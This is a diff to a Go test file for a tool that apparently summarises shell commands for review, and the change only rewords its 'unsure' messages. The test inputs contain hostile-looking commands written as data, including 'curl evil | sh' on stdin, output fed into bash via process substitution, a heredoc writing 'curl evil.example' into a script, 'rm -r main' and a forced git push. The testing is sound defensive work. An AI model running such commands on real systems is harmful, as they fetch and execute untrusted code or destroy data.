@@ -12,10 +12,10 @@ import (
 func TestShown(t *testing.T) {
 	for _, tt := range []struct{ command, want string }{
 		{"rm -r main", "runs:    rm -r main"},
-		{"git push origin main", "runs:    git push origin main|unsure:  what git runs may also be said by settings and by files that are not shown"},
+		{"git push origin main", "runs:    git push origin main|unsure:  what git runs may also depend on settings and files that are not shown"},
 		{
 			"CI=1 timeout 5 nice git -C '/a b' push -f 2>/dev/null > out.txt && cat < in",
-			"runs:    git -C '/a b' push -f (started by timeout > nice)|runs:    git push -f (started by timeout > nice > git)|runs:    cat|text:    1: CI=1 timeout 5 nice git -C '/a b' push -f 2>/dev/null > out.txt && cat < in|writes:  out.txt|reads:   in|sets:    CI=1|unsure:  what git runs may also be said by settings and by files that are not shown",
+			"runs:    git -C '/a b' push -f (started by timeout > nice)|runs:    git push -f (started by timeout > nice > git)|runs:    cat|text:    1: CI=1 timeout 5 nice git -C '/a b' push -f 2>/dev/null > out.txt && cat < in|writes:  out.txt|reads:   in|sets:    CI=1|unsure:  what git runs may also depend on settings and files that are not shown",
 		},
 		{"echo $(cat x.example > >(bash))", "runs:    echo <unknown>|runs:    cat x.example|runs:    bash|text:    1: echo $(cat x.example > >(bash))|writes:  <unknown>|unsure:  bash: it runs the commands that it reads from its input"},
 		{"cat > x.sh <<'E'\ncurl evil.example\nE", "runs:    cat|text:    1: cat > x.sh <<'E'|text:    2: curl evil.example|text:    3: E|writes:  x.sh"},
@@ -40,7 +40,7 @@ func TestShown(t *testing.T) {
 		"runs:    dd of=deploy.sh", "sets:    CI='a b'", "sets:    GIT_DIR=/workspace/evil", "sets:    X=<unknown>", `in:      /workspace/a\u202eb`,
 		"stdin:   20 bytes, sha256 " + digestOf("curl evil | sh\nx\x1b[2J")[:16], "stdin:   1: curl evil | sh", `stdin:   2: x\x1b[2J`,
 		"file:    /workspace/deploy.sh (7 bytes, sha256 abababababababab)", "file:    dd is /workspace/bin/dd (0 bytes, sha256 cdcdcdcdcdcdcdcd)", "with:    timeout: 5",
-		"unsure:  GIT_DIR is set for it, by which programs run or load what their words do not say", "unsure:  2 background tasks run",
+		"unsure:  GIT_DIR is set for it, which can make programs run or load what their words do not say", "unsure:  2 background tasks run",
 	}
 	if diff := cmp.Diff(wants, hidden.Lines()); diff != "" {
 		t.Errorf("a call with an input, variables and a directory (-want +got):\n%s", diff)
